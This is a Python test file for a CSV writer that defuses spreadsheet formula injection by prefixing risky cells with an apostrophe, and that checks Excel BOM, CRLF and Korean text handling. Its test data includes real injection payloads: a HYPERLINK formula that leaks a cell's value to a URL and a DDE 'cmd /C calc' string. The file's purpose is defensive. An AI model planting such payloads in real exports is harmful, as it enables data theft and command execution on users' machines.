"""The one CSV writer: formula cells turned into text, Excel's BOM and CRLF, Korean intact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from core.reference.spreadsheet import safe_cell, to_csv
from tests.support.spreadsheets import assert_csv_safe, unsafe_reason

HOSTILE = ['=HYPERLINK("http://x/?"&B2,"hi")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        *((cell, "'" + cell) for cell in HOSTILE),
        ("\0x", "'\0x"),
        ("  =1+1", "'  =1+1"),  # after leading whitespace
        ('"=1+1', "'\"=1+1"),  # after a quote
        ('" @x', "'\" @x"),
        ("\u3000＝1+1", "'\u3000＝1+1"),  # full-width space and equals sign
        ("\n=1+1", "'\n'=1+1"),  # a line break also starts a row where cells are misread
        ("'=1+1", "'=1+1"),  # an apostrophe first is text already
        ("Anna;=cmd|' /C calc'!A0", "Anna;'=cmd|' /C calc'!A0"),  # a semicolon locale's cell
        ('QKD; "-40 dB', "QKD; \"'-40 dB"),
        ("Interests:\r\n- QKD\n- cryo", "Interests:\r\n'- QKD\n'- cryo"),
        ("김지우", "김지우"),
        ('R&D <Lab> "Q", 2-3 people', 'R&D <Lab> "Q", 2-3 people'),
        ("2025-04-10T10:20+02:00", "2025-04-10T10:20+02:00"),
        ("a=b+c@d", "a=b+c@d"),
        ("", ""),
        (None, ""),
        (7, "7"),
        (-3, "'-3"),  # one rule for every cell, numbers the bot writes included
    ],
)
def test_every_formula_start_is_written_as_text(cell, written):
    assert safe_cell(cell) == written
    assert unsafe_reason(safe_cell(cell)) is None


def test_the_file_is_excel_ready_and_reads_back():
    rows = [[1, "김지우", "한국과학기술연구원", "line one\nline two"], *([c, c] for c in HOSTILE)]
    data = to_csv(["id", "name", "organisation", "bio"], rows)
    assert data.startswith(b"\xef\xbb\xbfid,name,organisation,bio\r\n")
    back = assert_csv_safe(data)
    assert back[1] == ["1", "김지우", "한국과학기술연구원", "line one\nline two"]
    assert [r[0] for r in back[2:]] == ["'" + c for c in HOSTILE]


def test_the_checker_catches_what_a_plain_writer_lets_through():
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for cell in [*HOSTILE, "Anna;=1", "ok\n@x", ' "+1']:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow(["fine", cell])
        with pytest.raises(AssertionError, match="spreadsheet would run"):
            assert_csv_safe(("\ufeff" + buffer.getvalue()).encode())
    with pytest.raises(AssertionError, match="byte-order mark"):
        assert_csv_safe(b"a,b\r\n")
    with pytest.raises(AssertionError, match="bare LF"):
        assert_csv_safe("\ufeffa,b\n".encode())


def test_no_other_module_writes_csv():
    """Every export goes through the one writer: nothing else builds CSV text."""
    writers = []
    for package in ("core", "storage", "handlers", "bot"):
        for path in (ROOT / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "csv.writer" in text or "DictWriter" in text or '\\ufeff" +' in text:
                writers.append(path.relative_to(ROOT).as_posix())
    assert writers == ["core/reference/spreadsheet.py"]
